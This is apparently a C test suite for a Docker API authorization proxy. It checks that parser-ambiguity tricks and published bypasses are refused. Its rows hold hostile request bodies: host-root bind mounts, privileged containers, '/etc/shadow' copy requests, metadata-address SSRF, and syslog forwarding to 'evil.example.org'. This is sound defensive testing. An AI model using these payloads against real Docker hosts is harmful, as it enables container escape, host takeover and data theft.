/* SPDX-License-Identifier: Apache-2.0 */
/* What two parsers could read in two ways, and the known bypasses of other proxies and plugins:
 * each is refused, whatever the policy grants field by field. */
#include "unit.h"

#include "policy_case.h"

#include <stdio.h>

#define CREATE "POST /v1.41/containers/create"
#define HOST(text) "{\"HostConfig\":{" text "}}"

static void names_are_read_as_go_reads_them(void **state)
{
	static const struct policy_row rows[] = {
	    {CREATE, "{\"hostconfig\":{\"privileged\":true}}", "grant HostConfig.Privileged", NULL},
	    {CREATE, "{\"HOSTCONFIG\":{\"PRIVILEGED\":true}}", "grant HostConfig.Privileged", NULL},
	    {CREATE, "{\"\\u0048ostConfig\":{\"\\u0050rivileged\":true}}",
		"grant HostConfig.Privileged", NULL},
	    {CREATE, "{\"Ho\xc5\xbftConfig\":{\"Privileged\":true}}", "ambiguous HostConfig", NULL},
	    {CREATE, "{\"Ho\\u017ftConfig\":{}}", "ambiguous HostConfig", NULL},
	    {CREATE, HOST("\"Bind\xc5\xbf\":[\"/:/h\"]"), "ambiguous HostConfig.Binds", NULL},
	    {CREATE, HOST("\"Networ\xe2\x84\xaaMode\":\"host\""),
		"ambiguous HostConfig.NetworkMode", NULL},
	    {CREATE, HOST("\"\xc3\xa9\":null"), "ambiguous HostConfig.\xc3\xa9", NULL},
	    {CREATE, HOST("\"Privileged\\u0000x\":true"), "gate", NULL},
	    {CREATE, HOST("\"Privileged\":false,\"privileged\":true"),
		"ambiguous HostConfig.Privileged", NULL},
	    {CREATE, HOST("\"Privileged\":true,\"Privileged\":false"), "gate", NULL},
	    {CREATE, HOST("\"Privileged\":true,\"Privileged\":null"), "gate", NULL},
	    {CREATE, "{\"HostConfig\":null,\"hostConfig\":{\"Privileged\":true}}",
		"ambiguous HostConfig", NULL},
	    {CREATE, "{\"HostConfig\":{\"Privileged\":true},\"HostConfig\":{}}", "gate", NULL},
	    {CREATE, "{\"HostConfig\":{},\"\\u0048ostConfig\":{\"Privileged\":true}}", "gate",
		NULL},
	    {CREATE, HOST("\"Mounts\":[{\"Type\":\"tmpfs\",\"type\":\"bind\"}]"),
		"ambiguous HostConfig.Mounts[0].Type", NULL},
	    {"POST /volumes/create", "{\"DriverOpts\":{},\"driveropts\":{\"device\":\"/\"}}",
		"ambiguous DriverOpts", NULL},
	    {"POST /networks/bridge/connect", "{\"container\":\"a\",\"CONTAINER\":\"b\"}",
		"ambiguous Container", NULL},
	    /* keys of maps are free text: both are kept apart by the daemon too */
	    {CREATE, "{\"Labels\":{\"a\":\"1\",\"A\":\"2\",\"\xc3\xa9\":\"3\"}}", "allow", NULL},
	    {CREATE, "{\"HostConfig\":{}}{\"HostConfig\":{\"Privileged\":true}}", "gate", NULL},
	    {CREATE, "{\"HostConfig\":{}}garbage", "gate", NULL},
	    {CREATE, "\xef\xbb\xbf{\"HostConfig\":{}}", "gate", NULL},
	    {CREATE, "{\"Image\":\"\xff\"}", "gate", NULL},
	    {CREATE, "{\"Image\":\"a\\u0000\"}", "gate", NULL},
	};

	(void)state;
	check_rows("allow = @all", rows, COUNT(rows));
}

/* Published bypasses, each named by what it used. */
static void known_bypasses_are_refused(void **state)
{
	static const struct policy_row rows[] = {
	    /* bind mounts that only Binds was searched for */
	    {CREATE, HOST("\"Mounts\":[{\"Type\":\"bind\",\"Source\":\"/\",\"Target\":\"/h\"}]"),
		"grant HostConfig.Mounts[0].Source", NULL},
	    {CREATE,
		HOST("\"Mounts\":[{\"Type\":\"volume\",\"Target\":\"/h\",\"VolumeOptions\":"
		     "{\"DriverConfig\":{\"Name\":\"local\",\"Options\":{\"type\":\"none\",\"o\":"
		     "\"bind\",\"device\":\"/etc\"}}}}]"),
		"grant HostConfig.Mounts[0].VolumeOptions.DriverConfig.Options[type]", NULL},
	    {CREATE, HOST("\"VolumeDriver\":\"x\",\"Binds\":[\"v:/h\"]"),
		"grant HostConfig.VolumeDriver", NULL},
	    {CREATE, HOST("\"VolumesFrom\":[\"other\"]"), "grant HostConfig.VolumesFrom[0]", NULL},
	    {"POST /volumes/create",
		"{\"Name\":\"v\",\"Driver\":\"local\",\"DriverOpts\":{\"type\":\"none\",\"o\":"
		"\"bind\","
		"\"device\":\"/\"}}",
		"grant DriverOpts[type]", NULL},
	    /* services skipped what containers were checked for */
	    {"POST /services/create",
		"{\"TaskTemplate\":{\"ContainerSpec\":{\"Mounts\":[{\"Type\":\"bind\",\"Source\":"
		"\"/\","
		"\"Target\":\"/h\"}]}}}",
		"grant TaskTemplate.ContainerSpec.Mounts[0].Source", NULL},
	    {"POST /services/create", "{\"TaskTemplate\":{\"Networks\":[{\"Target\":\"host\"}]}}",
		"grant TaskTemplate.Networks[0].Target", NULL},
	    {"POST /services/x/update?rollback=previous", "{}", "grant query:rollback", NULL},
	    /* an old API where a start rewrites the container */
	    {"POST /v1.23/containers/x/start", "{\"Privileged\":true}", "api_version", NULL},
	    {"POST /v1.12/containers/x/copy", "{\"Resource\":\"/etc/shadow\"}", "api_version",
		NULL},
	    {"POST /v1.41/containers/x/start", "{\"HostConfig\":{\"Privileged\":true}}", "body",
		NULL},
	    /* spellings of root for which a look at the name was not enough */
	    {CREATE, HOST("\"Binds\":[\"/proc/self/root/etc:/h\"]"), "grant HostConfig.Binds[0]",
		NULL},
	    {CREATE, HOST("\"Binds\":[\"//etc:/h\"]"), "ambiguous HostConfig.Binds[0]", NULL},
	    {CREATE, HOST("\"Binds\":[\"/srv/../etc:/h\"]"), "ambiguous HostConfig.Binds[0]", NULL},
	    {CREATE, HOST("\"UsernsMode\":\"host\""), "grant HostConfig.UsernsMode", NULL},
	    {CREATE, HOST("\"Cgroup\":\"container:x\""), "never HostConfig.Cgroup", NULL},
	    {CREATE, HOST("\"SecurityOpt\":[\"seccomp={}\"]"), "grant HostConfig.SecurityOpt[0]",
		NULL},
	    {CREATE,
		HOST("\"LogConfig\":{\"Type\":\"syslog\",\"Config\":{\"syslog-address\":"
		     "\"udp://evil.example.org\"}}"),
		"grant HostConfig.LogConfig.Type", NULL},
	    {CREATE, "{\"WorkingDir\":\"/proc/self/fd/8\"}", "never WorkingDir", NULL},
	    {"POST /containers/x/exec", "{\"Privileged\":true}", "grant Privileged", NULL},
	    {"POST /containers/x/exec", "{\"WorkingDir\":\"/proc/self/fd/8\"}", "never WorkingDir",
		NULL},
	    {"POST /plugins/pull?remote=evil/x", "[]", "grant query:remote", NULL},
	    {"POST /images/create?fromImage=bb&tag=1&tag=2", NULL, "grant query:fromImage", NULL},
	    {"POST /build?networkmode=host", NULL, "grant query:networkmode", NULL},
	    {"GET /containers/x/top?ps_args=e -o pid,cmd", NULL, "grant query:ps_args", NULL},
	    {"POST /auth", "{\"serveraddress\":\"http://169.254.169.254/\"}", "grant serveraddress",
		NULL},
	    {"GET /distribution/169.254.169.254:80/x/json", NULL, "grant path:name", NULL},
	};

	(void)state;
	check_rows("allow = @all\nvolume = *", rows, COUNT(rows));
}

/* "Read only" that was not: rules on what reads by its method but does more. */
static void reading_is_only_reading(void **state)
{
	static const struct policy_row rows[] = {
	    {"GET /containers/x/attach/ws", NULL, "no_rule", NULL},
	    {"GET /swarm/unlockkey", NULL, "no_rule", NULL},
	    {"GET /debug/pprof/heap", NULL, "no_rule", NULL},
	    {"GET /containers/x/checkpoints", NULL, "no_rule", NULL},
	    {"GET /libpod/info", NULL, "no_rule", NULL},
	};
	static const struct policy_row slashes[] = {
	    {"GET /images/a/get", NULL, "deny_rule", NULL},
	    {"GET /images/a/b/get", NULL, "deny_rule", NULL},
	    {"GET /images/get?names=a", NULL, "deny_rule", NULL},
	    {"GET /images/a/json", NULL, "allow", NULL},
	    {"GET /containers/a/b/json", NULL, "unknown_route", NULL},
	};

	(void)state;
	check_rows("allow = @read", rows, COUNT(rows));
	check_rows("allow = @read\ndeny = image.get image.get_all", slashes, COUNT(slashes));
}

/* Bodies at and over the limits of the gate are refused, never passed unread. */
static void no_body_is_too_large_to_be_judged(void **state)
{
	static struct outcome outcome;
	static char body[(1 << 20) + 200];
	static const char text[] = "{\"Image\":\"named:1\",\"HostConfig\":{\"Privileged\":true}}";
	struct policy *policy = policy_of("allow = @all");
	size_t len = strlen(text);

	(void)state;
	memset(body, ' ', sizeof(body));
	memcpy(body, text, len);
	body[1 << 20] = '\0';
	decide_case(policy, &(struct request_case){.line = CREATE, .body = body}, &outcome);
	assert_string_equal(outcome_text(&outcome), "grant HostConfig.Privileged");
	body[1 << 20] = ' ';
	body[(1 << 20) + 1] = '\0';
	decide_case(policy, &(struct request_case){.line = CREATE, .body = body}, &outcome);
	assert_string_equal(outcome_text(&outcome), "limit");
	policy_unref(policy);
}

/* What a trial leaves out of a request before it asks is refused where a policy is asked about it.
 */
static void what_is_left_out_would_be_refused(void **state)
{
	static const struct pair twice[] = {{SPAN("all"), SPAN("0")}, {SPAN("all"), SPAN("1")}};
	struct policy *policy = policy_of("allow = @all\nunknown_params = allow");
	struct policy_request request = {.method = METHOD_GET, .path = SPAN("/containers/json")};
	struct decision decision;

	(void)state;
	docker_find(request.method, request.path, &request.match);
	policy_decide(policy, &request, &decision, NULL, NULL);
	assert_int_equal(decision.verdict, VERDICT_ALLOW);
	request.query = twice;
	request.query_count = COUNT(twice);
	policy_decide(policy, &request, &decision, NULL, NULL);
	assert_int_equal(decision.reason, REASON_AMBIGUOUS);
	assert_string_equal(decision.field, "query:all");
	request.query_count = 0;
	request.upgrade = SPAN("tcp, h2c");
	policy_decide(policy, &request, &decision, NULL, NULL);
	assert_int_equal(decision.reason, REASON_UPGRADE);
	policy_unref(policy);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(names_are_read_as_go_reads_them),
	    cmocka_unit_test(known_bypasses_are_refused),
	    cmocka_unit_test(reading_is_only_reading),
	    cmocka_unit_test(what_is_left_out_would_be_refused),
	    cmocka_unit_test(no_body_is_too_large_to_be_judged),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
